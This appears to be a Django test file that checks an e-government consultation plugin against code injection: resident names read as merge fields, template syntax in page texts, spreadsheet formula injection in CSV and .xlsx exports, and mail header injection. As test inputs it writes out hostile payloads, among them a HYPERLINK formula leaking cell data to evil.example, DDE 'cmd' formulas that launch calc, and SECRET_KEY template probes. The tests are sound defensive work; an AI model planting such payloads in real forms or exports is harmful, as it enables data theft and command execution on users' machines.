"""KISA 웹 취약점 — 코드 인젝션 (Code Injection).

항목: 사용자가 보낸 값이 서버에서 코드·명령·템플릿으로 해석되어 실행되는지(OS 명령, 템플릿,
서식 문자열, 수식 등) 점검한다.

The item: a value someone sends being run on the server as code, a command, a template or a
format string — or, in files the site hands out, as a spreadsheet formula.

Attacks tried here:
- **merge fields**: a resident registered with the name ``{link}``, ``{region}``,
  ``{name.__class__.__mro__}``, ``%(name)s`` or ``##link##`` receiving a campaign SMS/e-mail
  (``{name}``, ``{region}``, ``{link}`` placeholders, and the provider's ``##field##``
  template): before the fix a name ``{link}`` was replaced by the campaign's link, a name
  ``##link##`` by the provider's value (the placeholders were filled one after the other, so a
  value was read as a template again). A staff member's message with ``{name.__init__}``,
  ``{0}`` or ``%s`` stays as typed (no ``str.format``);
- **templates**: Django template syntax (``{{ … }}``, ``{% debug %}``) in a consultation's
  summary and in an opinion shown on the resident page is printed, not run;
- **formula (CSV) injection**: opinions posted through the resident form that begin with
  ``=``, ``+``, ``-``, ``@``, a tab (``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``) exported by
  staff as CSV start with an apostrophe, and as .xlsx are text cells, never formulas. The
  neutralising itself and its exact round trip are tested in ``tests/core/test_spreadsheets.py``
  and ``tests/imports/test_round_trip.py``;
- **mail header injection**: an e-mail address with a line break and ``Bcc:`` is refused by
  the opinion form.

No code of the package runs a shell, ``eval``/``exec``, ``pickle`` of outside data or a
template built from input. Controls: ``egov_plugin.outreach.messages.fill`` and
``fill_template`` (one pass), ``egov_plugin.core.spreadsheets`` (formula neutralising),
Django's auto-escaping templates, Django's ``EmailField``.
"""

import csv
import io

import openpyxl
import pytest
from django.test import Client

from egov_plugin.consultations.models import Opinion
from egov_plugin.outreach import messages
from tests.consultations.conftest import make_consultation
from tests.factories import PersonFactory

pytestmark = pytest.mark.django_db

NAMES = ["{link}", "{region}", "{name.__class__.__mro__}", "%(name)s", "##link##", "{{7*7}}"]


class _Campaign:
    """What the message functions read of a campaign."""

    class Kind:
        CONSENT_RENEWAL = "consent_renewal"

    kind = "announcement"
    advertising = False
    sms_title = ""

    def __init__(self, message):
        self.message = message


@pytest.mark.parametrize("name", NAMES)
def test_a_residents_name_is_never_read_as_a_merge_field(regions, name):
    person = PersonFactory(name=name, region=regions["마장동"])
    campaign = _Campaign("{name}님, 의견을 들려주세요 {link}")
    text, _title = messages.render_sms(campaign, person, "https://gu.example/c/1")
    assert text.startswith(f"{name}님, 의견을 들려주세요 https://gu.example/c/1"), text
    assert text.count("https://gu.example/c/1") == 1


@pytest.mark.parametrize("name", NAMES)
def test_the_providers_template_fields_are_filled_once(regions, name):
    person = PersonFactory(name=name, region=regions["마장동"])
    template, used = messages.sms_template(_Campaign("{name}님 {link}"))
    fields = messages.template_fields(used, person, "https://gu.example/c/1")
    text = messages.fill_template(template, fields)
    assert f"{name}님 https://gu.example/c/1" in text
    assert text.count("https://gu.example/c/1") == 1


@pytest.mark.parametrize(
    "message", ["{name.__init__.__globals__}", "{0}{1}", "%s %(x)s", "{link.__class__}"]
)
def test_a_staff_message_is_never_a_format_string(regions, message):
    person = PersonFactory(name="김민수", region=regions["마장동"])
    text, _title = messages.render_sms(_Campaign(message), person, "https://gu.example/c/1")
    assert message in text


def test_template_syntax_in_consultation_and_opinion_texts_is_printed_not_run(
    consultation_index, regions, opinion_data
):
    page = make_consultation(
        consultation_index,
        "템플릿 시험",
        summary="{{ settings.SECRET_KEY }} {% debug %} {{ request.META }}",
    )
    client = Client()
    data = {**opinion_data, "text": "{{ 7|add:7 }} {% now 'Y' %} ${7*7} #{7*7}"}
    assert client.post(page.url, data).status_code in (200, 302)
    html = client.get(page.url).content.decode()
    assert "{{ settings.SECRET_KEY }}" in html and "{% debug %}" in html
    assert "test-only-secret-key" not in html and "sys.path" not in html
    assert "HTTP_USER_AGENT" not in html
    assert "{{ 7|add:7 }}" in html and "{% now &#x27;Y&#x27; %}" in html
    assert "${7*7}" in html


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.fixture
def posted_formulas(consultation, opinion_data, settings):
    settings.EGOV_OPINION_PER_CONTACT_PER_HOUR = 100
    client = Client()
    for i, text in enumerate(FORMULAS):
        data = {**opinion_data, "mobile": f"010-6000-{i:04d}", "text": text + " 라는 의견"}
        assert client.post(consultation.url, data).status_code in (200, 302)
    assert Opinion.objects.count() == len(FORMULAS)
    return consultation


def _export(client, page, export_format):
    response = client.post(
        f"/admin/egov/imports/export/opinions/?page={page.pk}",
        {"format": export_format, "reason": "의견 정리"},
    )
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_formulas_posted_by_residents_are_inert_in_the_csv_export(posted_formulas, admin_client):
    content = _export(admin_client, posted_formulas, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    texts = [c for c in cells if c.endswith(" 라는 의견")]
    assert len(texts) == len(FORMULAS)
    for cell in texts:
        assert cell.startswith("'"), cell  # read as text by every spreadsheet
    # No other cell (a name, a date) begins a formula either.
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t")], cells


def test_formulas_posted_by_residents_are_text_cells_in_the_xlsx_export(
    posted_formulas, admin_client
):
    book = openpyxl.load_workbook(io.BytesIO(_export(admin_client, posted_formulas, "xlsx")))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value]
    texts = [c for c in cells if str(c.value).endswith(" 라는 의견")]
    assert len(texts) == len(FORMULAS)
    assert all(c.data_type == "s" for c in texts)
    assert not [c for c in cells if c.data_type == "f"]


def test_a_mail_header_in_the_e_mail_field_is_refused(consultation, opinion_data):
    data = {**opinion_data, "email": "a@example.com\r\nBcc: everyone@example.com"}
    response = Client().post(consultation.url, data)
    assert response.status_code in (200, 400)
    assert not Opinion.objects.exists()
